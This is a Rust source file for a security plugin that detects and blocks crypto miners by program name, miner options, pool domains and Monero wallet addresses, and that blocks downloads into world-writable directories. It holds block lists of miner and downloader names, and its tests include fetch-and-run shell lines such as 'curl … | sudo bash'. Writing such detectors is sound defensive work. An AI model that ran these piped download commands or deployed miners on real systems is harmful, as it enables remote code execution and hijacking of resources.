//! Crypto miners, and how they come: by the names, options, pools and wallets in a program's arguments, and by downloads into
//! places where everybody can write or straight into a shell.
//!
//! A heuristic: who renames the program and configures it by a file is not seen. It costs an attacker the ready-made tools, and
//! tells who has them.

use callgate_sdk::{ConfigError, Event, Exec, Plugin, Verdict, by_action_alone, canonical_path};
use schemars::JsonSchema;
use serde::Deserialize;

/// The plugin, configured.
#[derive(Debug)]
pub struct Miner {
    words: Vec<String>,
    downloads: bool,
    except: Vec<String>,
}

/// What is looked for beside what is known.
#[derive(Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields, default)]
pub struct Config {
    /// More words that are denied in an argument, whatever their case: names of pools, for example.
    #[schemars(extend("items" = { "type": "string", "minLength": 4 }))]
    words: Vec<String>,
    /// Whether download tools are looked at: what they put into `/tmp`, `/var/tmp`, `/dev/shm` or `/run`, and what a shell is
    /// told to download and to run.
    downloads: bool,
    /// Programs that are not looked at: absolute paths.
    #[schemars(extend("items" = { "type": "string", "pattern": "^/" }))]
    except: Vec<String>,
}

impl Default for Config {
    fn default() -> Self {
        Self { words: Vec::new(), downloads: true, except: Vec::new() }
    }
}

/// Names of miners, and of droppers that bring them.
const NAMES: [&str; 28] = [
    "bfgminer",
    "bminer",
    "ccminer",
    "cgminer",
    "claymore",
    "cpuminer",
    "cpuminer-multi",
    "ethminer",
    "gminer",
    "gminer_cuda",
    "kdevtmpfsi",
    "kinsing",
    "kthreaddk",
    "lolminer",
    "minerd",
    "nanominer",
    "nbminer",
    "phoenixminer",
    "pwnrig",
    "sgminer",
    "srbminer-multi",
    "t-rex",
    "teamredminer",
    "trex",
    "xmr-stak",
    "xmrig",
    "xmrig-notls",
    "xmrigdaemon",
];

/// What only miners are told: protocols, and options that no other program has.
const OPTIONS: [&str; 13] = [
    "stratum+tcp:",
    "stratum+ssl:",
    "stratum+tls:",
    "stratum2+",
    "stratum1+",
    "daemon+http",
    "--donate-level",
    "--randomx-",
    "--cpu-max-threads-hint",
    "--nicehash",
    "--coin=monero",
    "--coin monero",
    "cryptonight",
];

/// Pools.
const POOLS: [&str; 16] = [
    "2miners.com",
    "c3pool.",
    "f2pool.com",
    "hashvault.pro",
    "herominers.com",
    "minexmr.com",
    "miningocean.org",
    "monerohash.com",
    "moneroocean.stream",
    "monerop.com",
    "nanopool.org",
    "nicehash.com",
    "p2pool.io",
    "supportxmr.com",
    "unmineable.com",
    "viabtc.com",
];

const DOWNLOADERS: [&str; 9] = ["aria2c", "axel", "curl", "fetch", "ftp", "lwp-download", "tftp", "wget", "wget2"];

/// Where everybody can write.
const OPEN: [&str; 4] = ["/tmp", "/var/tmp", "/dev/shm", "/run"];

#[callgate_sdk::plugin(schema = "config.schema.json")]
impl Plugin for Miner {
    type Config = Config;
    const NAME: &'static str = "miner";

    fn new(config: Config) -> Result<Self, ConfigError> {
        if let Some(index) = config.words.iter().position(|word| word.chars().count() < 4) {
            let message =
                format!("{:?} is in too many arguments: a word has four letters or more", config.words[index]);
            return Err(ConfigError::at(format!("/words/{index}"), message));
        }
        let except = config.except.into_iter().enumerate().map(|(index, path)| {
            if path.starts_with('/') {
                return Ok(canonical_path(&path).unwrap_or(path));
            }
            Err(ConfigError::at(format!("/except/{index}"), format!("{path:?} is no absolute path")))
        });
        let words = config.words.iter().map(|word| word.to_lowercase()).collect();
        Ok(Self { words, downloads: config.downloads, except: except.collect::<Result<_, _>>()? })
    }

    fn exec(&mut self, _: &Event, exec: &Exec) -> Verdict {
        by_action_alone();
        if exec.file.canonical && self.except.contains(&exec.file.path) {
            return Verdict::Abstain;
        }
        match self.found(exec).or_else(|| self.downloads.then(|| download(exec)).flatten()) {
            Some((rule, why)) => Verdict::deny(rule, why).hint(format!("add {:?} to except", exec.file.path)),
            None => Verdict::Abstain,
        }
    }

    fn exec_fileless(&mut self, event: &Event, exec: &Exec) -> Verdict {
        self.exec(event, exec)
    }
}

type Found = Option<(&'static str, String)>;

impl Miner {
    fn found(&self, exec: &Exec) -> Found {
        let names = exec.files().map(|(_, file)| file.path.as_str()).chain([exec.requested.as_str()]);
        let names = names.chain(exec.arguments.first().map(String::as_str));
        if let Some(name) = names.map(|path| base(path).to_lowercase()).find(|name| NAMES.contains(&name.as_str())) {
            return Some(("miner.name", format!("{name} is the name of a miner")));
        }
        for argument in &exec.arguments {
            let lower = argument.to_lowercase();
            let has = |known: &&&str| lower.contains(**known);
            if let Some(option) = OPTIONS.iter().find(has) {
                return Some(("miner.option", format!("{option:?} is in an argument, which only a miner is told")));
            }
            if let Some(pool) = POOLS.iter().find(has) {
                return Some(("miner.pool", format!("{pool:?} is in an argument, which is a mining pool")));
            }
            if let Some(word) = self.words.iter().find(|word| lower.contains(word.as_str())) {
                return Some(("miner.word", format!("{word:?} is in an argument")));
            }
            if argument.split(|c: char| !c.is_ascii_alphanumeric()).any(is_wallet) {
                return Some(("miner.wallet", "an argument has the address of a Monero wallet in it".to_owned()));
            }
        }
        None
    }
}

/// A Monero address: 95 characters of base 58 (106 with a payment id), beginning with 4, or 8 for a subaddress.
fn is_wallet(word: &str) -> bool {
    matches!(word.len(), 95 | 106)
        && word.starts_with(['4', '8'])
        && word.bytes().all(|byte| !matches!(byte, b'0' | b'O' | b'I' | b'l'))
}

fn download(exec: &Exec) -> Found {
    let mut programs = exec.files().map(|(_, file)| base(&file.path));
    if programs.any(|name| DOWNLOADERS.contains(&name)) {
        let target = exec.arguments.iter().skip(1).find(|argument| into_the_open(argument))?;
        return Some(("miner.download", format!("{target:?} would be downloaded to where everybody can write")));
    }
    // `sh -c 'curl … | sh'`: each of the two programs looks harmless.
    let line = exec.arguments.iter().find(|argument| pipes_a_download(argument))?;
    let line: String = line.chars().take(80).collect();
    Some(("miner.piped", format!("{line:?} downloads something and runs it")))
}

/// Whether an argument, or what stands behind the `=` or the letter of an option in it, is a path in an open directory.
fn into_the_open(argument: &str) -> bool {
    let path = if argument.starts_with('-') { argument.find('/').map(|at| &argument[at..]) } else { Some(argument) };
    let within =
        |path: &str, open: &str| path == open || path.strip_prefix(open).is_some_and(|rest| rest.starts_with('/'));
    path.is_some_and(|path| OPEN.iter().any(|open| within(path, open)))
}

fn pipes_a_download(line: &str) -> bool {
    const INTO: [&str; 9] = ["sh", "bash", "dash", "ash", "zsh", "ksh", "python", "python3", "perl"];
    let first = |command: &str| {
        command.split_whitespace().find(|word| *word != "sudo").map(base).unwrap_or_default().to_owned()
    };
    let mut commands = line.split('|');
    let downloads = commands.next().is_some_and(|command| {
        command.split([';', '&', '(', '`', '\n']).any(|command| DOWNLOADERS.contains(&first(command).as_str()))
    });
    downloads && commands.any(|command| INTO.contains(&first(command).as_str()))
}

fn base(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use callgate_sdk::testing::{Tester, exec, exec_fileless, strategies};

    fn rule(arguments: &[&str]) -> Option<String> {
        let mut plugin = Tester::<Miner>::new(r#"{"words": ["Mine-Pool"]}"#).unwrap();
        let program = format!("/usr/bin/{}", arguments[0]);
        plugin.decide(exec(&program).arguments(arguments.iter().copied())).rule().map(str::to_owned)
    }

    #[test]
    fn miners_are_known_by_name_option_pool_and_wallet() {
        let wallet = "4".to_owned() + &"A".repeat(94);
        for (arguments, expected) in [
            (&["xmrig"][..], Some("miner.name")),
            (&["x", "-o", "stratum+tcp://h:3333"], Some("miner.option")),
            (&["x", "--url=pool.SUPPORTXMR.com:443"], Some("miner.pool")),
            (&["x", "mine-pool.example"], Some("miner.word")),
            (&["x", "-u", &wallet], Some("miner.wallet")),
            (&["x", "-w", &format!("{wallet}.rig:x")], Some("miner.wallet")),
            (&["x", "-w", &wallet[1..]], None),
            (&["ls", "-l"], None),
            (&["gcc", "-o", "t-rexx", "--donate"], None),
        ] {
            assert_eq!(rule(arguments).as_deref(), expected, "{arguments:?}");
        }
        let mut plugin = Tester::<Miner>::new("{}").unwrap();
        assert!(plugin.decide(exec_fileless("/memfd:x").arguments(["kdevtmpfsi"])).denial().is_some());
    }

    #[test]
    fn downloads_into_the_open_or_into_a_shell_are_denied() {
        for (arguments, expected) in [
            (&["curl", "-o", "/tmp/x", "https://h/x"][..], Some("miner.download")),
            (&["curl", "-o/dev/shm/x", "https://h/x"], Some("miner.download")),
            (&["wget", "--directory-prefix=/var/tmp", "https://h/x"], Some("miner.download")),
            (&["wget", "https://h/tmp/x"], None),
            (&["curl", "-o", "/srv/tmp/x", "https://h/x"], None),
            (&["sh", "-c", "curl -s https://h/x | sudo bash -s"], Some("miner.piped")),
            (&["bash", "-c", "cd /; wget -qO- h/x|sh"], Some("miner.piped")),
            (&["sh", "-c", "curl https://h/x | grep sh"], None),
            (&["sh", "-c", "echo curl | sh"], None),
        ] {
            assert_eq!(rule(arguments).as_deref(), expected, "{arguments:?}");
        }
        let mut lenient = Tester::<Miner>::new(r#"{"downloads": false}"#).unwrap();
        assert_eq!(lenient.decide(exec("/usr/bin/curl").arguments(["curl", "-o", "/tmp/x"])), Verdict::Abstain);
    }

    #[test]
    fn a_program_can_be_excepted() {
        let mut plugin = Tester::<Miner>::new(r#"{"except": ["/opt/miner/xmrig"]}"#).unwrap();
        assert_eq!(plugin.decide(exec("/opt/miner/xmrig")), Verdict::Abstain);
        assert!(plugin.decide(exec("/opt/miner/xmrig").file(|file| file.canonical = false)).denial().is_some());
    }

    #[test]
    fn a_mistake_has_its_place() {
        assert_eq!(Tester::<Miner>::new(r#"{"words": ["miner", "x"]}"#).unwrap_err().pointer, "/words/1");
        assert_eq!(Tester::<Miner>::new(r#"{"except": ["x"]}"#).unwrap_err().pointer, "/except/0");
    }

    proptest::proptest! {
        #[test]
        fn no_event_makes_it_panic(event in strategies::event()) {
            Tester::<Miner>::new("{}").unwrap().decide(event);
        }
    }
}
